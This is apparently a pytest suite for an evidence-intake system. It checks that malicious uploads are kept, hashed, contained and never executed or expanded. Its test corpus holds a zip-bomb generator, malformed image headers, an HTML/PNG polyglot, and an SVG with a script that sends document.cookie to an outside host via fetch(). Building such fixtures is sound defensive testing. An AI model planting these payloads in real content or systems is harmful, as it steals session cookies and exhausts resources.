"""A hostile-file corpus through intake: nothing crashes or hangs, every original is
kept and hashed, nothing hostile is expanded or served inline."""

import hashlib
import io
import struct
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from chain_of_custody.models import CustodyEvent
from evidence import parsers
from evidence.demo import pdf as demo_pdf
from evidence.parsers.sandbox import SandboxError, run_sandboxed
from storage.handler import primary_store

LIMITS = {"timeout": 10.0, "memory_limit": 512 * 1024**2}


def png_bytes(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, "PNG")
    return out.getvalue()


def zip_bomb(member_bytes: int = 200 * 1024**2) -> bytes:
    """A small ZIP whose one member inflates to ``member_bytes`` of zeros."""
    out = io.BytesIO()
    chunk = bytes(16 * 1024**2)
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(member_bytes // len(chunk)):
            member.write(chunk)
    return out.getvalue()


def tiff_with_absurd_offsets() -> bytes:
    # A little-endian TIFF whose first directory claims 65,535 entries far past EOF.
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", 0xFFFF) + b"\x00" * 12


def gif_truncated() -> bytes:
    out = io.BytesIO()
    Image.new("P", (300, 200)).save(out, "GIF")
    return out.getvalue()[:40]


def webp_garbage() -> bytes:
    body = b"WEBPVP8 " + struct.pack("<I", 10_000_000) + b"\x9d\x01\x2a" + b"\xff" * 64
    return b"RIFF" + struct.pack("<I", len(body)) + body


def png_with_huge_chunk_length() -> bytes:
    png = png_bytes()
    # Claim a 2 GiB IDAT in the first chunk after IHDR.
    return png[:33] + struct.pack(">I", 0x7FFFFFFF) + b"IDAT" + png[41:]


CORPUS = {
    "polyglot.png": png_bytes() + b"<html><script>alert(1)</script></html>",
    "polyglot.pdf": demo_pdf(["PDF and ZIP at once"]) + zip_bomb(8 * 1024**2),
    "image.svg": (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
        b"<script>fetch('https://example.org/'+document.cookie)</script></svg>"
    ),
    "absurd.tif": tiff_with_absurd_offsets(),
    "cut.gif": gif_truncated(),
    "bad.webp": webp_garbage(),
    "huge-chunk.png": png_with_huge_chunk_length(),
    "not-really.jpg": b"\xff\xd8\xff\xe1\xff\xffExif\x00\x00MM\x00*" + b"\xff" * 100,
}


@pytest.fixture
def analysed(ingest, django_capture_on_commit_callbacks, settings):
    settings.INDISPUTABLE_PARSER_TIMEOUT = 10.0

    def _analysed(content: bytes, name: str):
        with django_capture_on_commit_callbacks(execute=True):
            item = ingest(content, name=name)
        item.refresh_from_db()
        return item

    return _analysed


def stored_bytes(item) -> bytes:
    with primary_store().open(item.blob.store_key) as fh:
        return fh.read()


@pytest.mark.parametrize("name", sorted(CORPUS))
@pytest.mark.django_db
def test_hostile_files_are_kept_hashed_and_contained(
    analysed, name, client, investigator
):
    content = CORPUS[name]

    item = analysed(content, name)

    assert item.blob.sha256 == hashlib.sha256(content).hexdigest()
    assert stored_bytes(item) == content
    assert CustodyEvent.objects.filter(item=item, event_type="ing").count() == 1
    client.force_login(investigator)
    response = client.get(f"/admin/evidence/item/{item.reference}/original/")
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")


@pytest.mark.django_db
def test_a_zip_bomb_is_stored_and_never_expanded(analysed):
    bomb = zip_bomb()
    assert len(bomb) < 1024**2

    item = analysed(bomb, "archive.zip")

    assert item.blob.mime_type == "application/zip"
    assert item.blob.size == len(bomb)
    assert item.metadata_status == "n/a"
    assert not item.derivatives.exists()
    # Nothing under the store is anywhere near the inflated size.
    biggest = max(
        p.stat().st_size for p in primary_store().root.rglob("*") if p.is_file()
    )
    assert biggest == len(bomb)


@pytest.mark.django_db
def test_the_svg_script_never_runs_or_becomes_a_derivative(analysed):
    item = analysed(CORPUS["image.svg"], "image.svg")
    assert item.blob.mime_type == "image/svg+xml"
    assert not item.derivatives.exists()


@pytest.mark.django_db
def test_a_png_html_polyglot_thumbnail_holds_pixels_only(analysed):
    item = analysed(CORPUS["polyglot.png"], "polyglot.png")
    thumbnail = item.derivatives.get(kind="thumbnail")
    with primary_store().open(thumbnail.blob.store_key) as fh:
        data = fh.read()
    assert b"<script>" not in data
    assert Image.open(io.BytesIO(data)).format == "JPEG"


PREFIXES = [
    b"\xff\xd8\xff\xe1",
    b"\x89PNG\r\n\x1a\n",
    b"GIF89a",
    b"II*\x00",
    b"%PDF-1.7\n",
]
MIME = {
    b"\xff\xd8\xff\xe1": "image/jpeg",
    b"\x89PNG\r\n\x1a\n": "image/png",
    b"GIF89a": "image/gif",
    b"II*\x00": "image/tiff",
    b"%PDF-1.7\n": "application/pdf",
}


@settings(
    max_examples=40,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(prefix=st.sampled_from(PREFIXES), body=st.binary(max_size=4096))
def test_fuzzed_headers_never_escape_the_extractor(tmp_path, prefix, body):
    path = tmp_path / "fuzz.bin"
    path.write_bytes(prefix + body + zlib.compress(body))
    try:
        result = run_sandboxed(
            parsers.extract_metadata, str(path), MIME[prefix], **LIMITS
        )
    except SandboxError as exc:
        # A crash or a limit is contained and reported, never propagated raw.
        result = {"fields": {}, "raw": {}, "errors": [{"error": str(exc)}]}
    assert set(result) == {"fields", "raw", "errors"}
    for error in result["errors"]:
        assert error["error"]
